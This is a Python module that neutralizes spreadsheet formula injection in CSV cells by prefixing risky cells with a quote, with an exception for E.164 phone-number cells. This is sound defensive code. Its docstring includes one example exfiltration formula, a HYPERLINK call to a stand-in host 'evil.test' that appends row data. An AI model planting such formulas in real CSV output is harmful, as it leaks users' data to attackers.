"""CSV cells that a spreadsheet will not evaluate (OWASP "CSV injection").

A spreadsheet that opens a CSV evaluates a cell starting with ``=``, ``+``, ``-`` or ``@`` as a formula:
``=HYPERLINK("http://evil.test/?"&A2, "Details")`` becomes a live link that carries the row away, a DDE formula
runs a command. Some do the same after a leading tab, carriage return or line feed, after blanks, or for the
fullwidth and small forms of the signs (U+FF1D, U+FF0B, U+FF0D, U+FF20; U+FE66, U+FE62, U+FE63, U+FE6B: every
character that compatibility normalization folds to one of them), which they fold to ASCII. Scraped text is
written by whoever owns the site, so every cell of every CSV leadworker writes goes through
:func:`neutralize_cell`, which puts a single quote in front of such a cell (OWASP's advice): the spreadsheet
shows the text, quote included, and evaluates nothing.

One exception, deliberately: a cell that is nothing but E.164 phone numbers (``+4930123456``, or several joined
with ``; ``) stays as it is. It holds ``+``, ASCII digits, ``;`` and spaces only: no function name, no cell
reference, no string, so the most a spreadsheet can make of it is a number, never a call or a link. Quoting it
would hand every CRM import ``'+4930123456``, which is no longer a phone number.
"""

from __future__ import annotations

import re
import unicodedata

_FORMULA_SIGNS = frozenset("=+-@")
_LINE_CONTROLS = frozenset("\t\r\n")
_E164_LIST = re.compile(r"\+[1-9][0-9]{1,14}(?:; \+[1-9][0-9]{1,14})*")

QUOTE = "'"


def _starts_formula(text: str) -> bool:
    if text[0] in _LINE_CONTROLS:
        return True
    head = text.lstrip()[:1]
    return bool(head) and unicodedata.normalize("NFKC", head) in _FORMULA_SIGNS


def neutralize_cell(text: str) -> str:
    """``text`` as a CSV cell that a spreadsheet shows rather than evaluates (see the module's docstring)."""
    if not text or not _starts_formula(text) or _E164_LIST.fullmatch(text):
        return text
    return QUOTE + text
